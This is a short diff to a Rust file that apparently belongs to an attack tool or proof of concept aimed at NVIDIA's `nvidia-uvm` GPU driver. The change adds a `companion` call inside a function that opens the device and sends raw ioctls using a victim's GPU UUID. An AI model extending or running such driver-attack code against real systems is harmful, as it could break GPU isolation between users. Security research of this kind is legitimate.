@@ -383,6 +383,8 @@ fn uvm(a: &Attacker) -> Result<i32, String> {
     let path = format!("{}/nvidia-uvm", a.folder);
     let fd = sys::open(&path, libc::O_RDWR | libc::O_CLOEXEC).map_err(|e| format!("errno {e}"))?;
     request(fd, layout::UVM_INITIALIZE, &mut [0; 16], 8)?;
+    // The attack's process ends soon, and both files with it.
+    uvm::companion(&path, fd).map_err(|e| format!("UVM_MM_INITIALIZE: {e}"))?;
     let mut gpu = [0; 40];
     gpu[..16].copy_from_slice(&a.victim.gpus.uuid);
     request(fd, 37, &mut gpu, 36)?;
